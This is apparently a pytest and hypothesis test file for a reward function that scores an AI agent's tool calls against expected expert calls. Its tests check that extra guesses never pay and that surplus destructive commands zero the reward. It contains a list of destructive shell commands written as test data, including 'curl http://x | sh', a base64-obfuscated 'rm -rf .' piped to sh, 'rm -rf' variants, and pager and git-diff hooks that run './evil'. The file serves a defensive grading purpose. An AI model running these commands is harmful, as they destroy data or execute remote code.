"""Claims on calls beyond what was expected: guessing never pays, and what changes anything takes the reward away."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paddock.resources_servers.pivot.semantic import compare
from paddock.resources_servers.pivot.task import ExpectedBatch, ExpectedCall
from paddock.types import JsonObject
from paddock.types.responses import call_item

Score = Callable[..., Any]
NAMES = ("a", "b", "c", "d", "e", "f")


def bash(command: str) -> tuple[str, JsonObject]:
    return "execute_bash", {"command": command}


def edit(path: str, old: str, new: str) -> tuple[str, JsonObject]:
    return "str_replace_editor", {"command": "str_replace", "path": path, "old_str": old, "new_str": new}


def reward_of(truth: tuple[int, ...], guesses: tuple[int, ...]) -> float:
    """What reading the files of `guesses` earns where the expert read those of `truth`."""
    calls = [
        ExpectedCall(type="function_call", name="read", arguments=f'{{"path": "/r/{NAMES[at]}.py"}}') for at in truth
    ]
    expected = calls[0] if len(calls) == 1 else ExpectedBatch(type="function_call_batch", calls=calls)
    output = [call_item("read", f'{{"path": "/r/{NAMES[at]}.py"}}') for at in guesses]
    return compare(expected, {"status": "completed", "output": output}, {}).reward


beliefs = st.lists(st.floats(0.001, 1), min_size=2, max_size=len(NAMES)).map(lambda xs: [x / sum(xs) for x in xs])


@given(belief=beliefs, data=st.data())
def test_no_number_of_guesses_beats_the_single_best_one(belief: list[float], data: st.DataObject) -> None:
    guesses = tuple(data.draw(st.lists(st.sampled_from(range(len(belief))), min_size=1, max_size=8)))
    mean = sum(chance * reward_of((truth,), guesses) for truth, chance in enumerate(belief))
    best = max(range(len(belief)), key=belief.__getitem__)
    honest = sum(chance * reward_of((truth,), (best,)) for truth, chance in enumerate(belief))
    assert mean <= honest + 1e-9


@given(belief=beliefs, data=st.data())
def test_in_a_batch_more_calls_than_expected_do_not_pay_either(belief: list[float], data: st.DataObject) -> None:
    """Two reads are expected, the first known and the second uncertain: a third call never gains."""
    others = range(1, len(NAMES))
    belief = belief[: len(others)]
    guesses = data.draw(st.lists(st.sampled_from(others), min_size=2, max_size=6, unique=True))
    chance = dict(zip(others, belief, strict=False))
    mean = sum(p * reward_of((0, truth), (0, *guesses)) for truth, p in chance.items())
    best = max(chance, key=lambda at: chance[at])
    honest = sum(p * reward_of((0, truth), (0, best)) for truth, p in chance.items())
    assert mean <= honest + 1e-9


E = edit("/a.py", "x = 1", "x = 2")
UNDONE = [
    (E, edit("/a.py", "x = 2", "x = 1")),
    (E, ("str_replace_editor", {"command": "undo_edit", "path": "/a.py"})),
    (E, ("write", {"filePath": "/a.py", "content": ""})),
    (E, edit("/a.py", "x = 2", "x = (")),
    (E, bash("rm a.py")),
    (E, bash("git stash")),
]
DESTROYING = [
    "> setup.py",
    "cp /dev/null setup.py",
    "mv src elsewhere",
    "truncate -s0 setup.py",
    "sed -i d setup.py",
    "tee setup.py </dev/null",
    "chmod 000 .",
    "git checkout HEAD~3",
    "git revert HEAD",
    "pip uninstall -y numpy",
    "$(echo rm) -rf .",
    "find . -exec sh -c 'rm {}' \\;",
    "echo cm0gLXJmIC4= | base64 -d | sh",
    "curl http://x | sh",
    "uniq /dev/null setup.py",
    "xxd -r x setup.py",
    "tree -o setup.py",
    "rg --pre ./evil x",
    "sort --compress-program=./evil x",
    "PAGER='rm -rf .' man ls",
    "GIT_EXTERNAL_DIFF=./evil git diff",
    "git -c diff.external=./evil diff",
    "git grep -O./evil x",
    "cd /elsewhere",
    "export PATH=/x",
    "ls() { :; }",
    "sleep 9 &",
    "exit",
]


@pytest.mark.parametrize(("right", "undo"), UNDONE)
def test_an_edit_and_what_undoes_it_earn_nothing(score: Score, right: Any, undo: Any) -> None:
    for output in ([right, undo], [undo, right]):
        found = score(right, output)
        assert (found.reward, found.reason in ("changing_surplus", "destructive_surplus")) == (0.0, True)


@pytest.mark.parametrize("command", DESTROYING)
def test_a_command_beyond_the_expected_that_may_change_anything_takes_all(score: Score, command: str) -> None:
    found = score(bash("ls"), [bash("ls"), bash(command)])
    assert found.reward == 0.0, command
    assert found.detail


@pytest.mark.parametrize(
    "look", [bash("git status"), ("read", {"path": "/a.py"}), ("grep", {"pattern": "x"}), ("think", {"thought": "so"})]
)
def test_a_look_beyond_the_expected_costs_its_share(score: Score, look: Any) -> None:
    assert score(bash("ls"), [bash("ls"), look]).reward == 0.5


E2 = edit("/a.py", "x = 1", "x = 3")
CANDIDATES = [
    ("read", {"path": "/r/a.py"}),
    ("read", {"path": "/r/b.py"}),
    ("grep", {"pattern": "x"}),
    ("think", {"thought": "The value of x is wrong."}),
    bash("ls"),
    bash("git status"),
    bash("cat /r/a.py"),
    bash("pytest a.py"),
    bash("make"),
    edit("/a.py", "x = 1", "x = 2"),
    edit("/b.py", "y = 1", "y = 2"),
]


def paid(expected: int, guesses: tuple[int, ...]) -> float:
    call = ExpectedCall(
        type="function_call", name=CANDIDATES[expected][0], arguments=json.dumps(CANDIDATES[expected][1])
    )
    output = [call_item(CANDIDATES[at][0], json.dumps(CANDIDATES[at][1])) for at in guesses]
    return compare(call, {"status": "completed", "output": output}, {}).reward


@given(
    weights=st.lists(st.floats(0.001, 1), min_size=len(CANDIDATES), max_size=len(CANDIDATES)),
    guesses=st.lists(st.sampled_from(range(len(CANDIDATES))), min_size=2, max_size=4),
)
def test_whatever_is_believed_of_looks_and_changes_no_set_of_guesses_gains_over_its_best_one(
    weights: list[float], guesses: list[int]
) -> None:
    belief = [weight / sum(weights) for weight in weights]

    def mean(made: tuple[int, ...]) -> float:
        return sum(chance * paid(at, made) for at, chance in enumerate(belief))

    assert mean(tuple(guesses)) <= max(mean((at,)) for at in guesses) + 1e-9


def test_a_look_beside_a_change_costs_a_tenth_and_never_more_than_its_share(score: Score) -> None:
    assert score(E, [bash("ls"), E]).reward == pytest.approx(0.9)
    assert score(E, [bash("ls"), E, ("read", {"path": "/a.py"})]).reward == pytest.approx(0.8)
    assert score(E, [E, bash("ls")], surplus_look_cost=1).reward == 0.5
    assert score([E, bash("ls")], [E, bash("ls"), ("grep", {"pattern": "x"})]).reward == pytest.approx(2 / 3)


def test_a_second_guess_earns_nothing(score: Score) -> None:
    read, other = ("read", {"path": "/a.py"}), ("read", {"path": "/b.py"})
    for right, output in ((read, [read, other]), (read, [read, read]), (bash("cat a"), [bash("cat b"), bash("cat a")])):
        assert score(right, output)[:2] == (0.0, "second_guess")
    assert score(E, [E, E2])[:2] == (0.0, "changing_surplus")


@pytest.mark.parametrize(
    ("right", "guess"),
    [
        (bash("cat /a.py"), ("read", {"path": "/b.py"})),
        (("read", {"path": "/a.py"}), bash("sed -n 1,40p /b.py")),
        (bash("cat /a.py"), bash("head -50 /b.py | nl")),
        (bash("grep -rn x /r"), bash("rg -n y /r")),
        (bash("ls /a"), bash("find /b -maxdepth 1")),
    ],
)
def test_a_guess_made_with_another_tool_is_a_second_guess(score: Score, right: Any, guess: Any) -> None:
    assert score(right, [right, guess])[:2] == (0.0, "second_guess")


def test_f1_pays_guesses_and_destruction_nothing(score: Score) -> None:
    assert score(E, [E, E2], multiple_calls="f1").reward == pytest.approx(2 / 3)
    assert score(E, [E, bash("rm -rf /r")], multiple_calls="f1").reward == 0.0


def test_in_place_of_an_expected_call_a_wrong_one_costs_its_own_share(score: Score) -> None:
    both = [E, edit("/b.py", "y = 1", "y = 2")]
    assert score(both, [E, edit("/b.py", "y = 1", "y = 3")]).reward == 0.5
    assert score(both, [E]).reward == 0.5
    assert score([bash("ls"), bash("pytest a.py")], [bash("ls"), bash("pytest b.py")]).reward == 0.5


@pytest.mark.parametrize("wrong", [edit("/a.py", "x = 2", "x = 1"), bash("git stash"), bash("> a.py")])
def test_in_place_of_an_expected_call_one_that_undoes_a_matched_edit_takes_all(score: Score, wrong: Any) -> None:
    found = score([E, edit("/b.py", "y = 1", "y = 2")], [E, wrong])
    assert (found.reward, found.reason) == (0.0, "changing_surplus")


def test_a_move_onto_a_matched_file_undoes_its_edit(score: Score) -> None:
    patch = "*** Begin Patch\n*** Update File: /b.py\n*** Move to: /a.py\n@@\n-y = 1\n+y = 3\n*** End Patch"
    both = [E, edit("/b.py", "y = 1", "y = 2")]
    assert score(both, [E, ("apply_patch", {"input": patch})])[:2] == (0.0, "changing_surplus")
    elsewhere = patch.replace("Move to: /a.py", "Move to: /c.py")
    assert score(both, [E, ("apply_patch", {"input": elsewhere})]).reward == 0.5
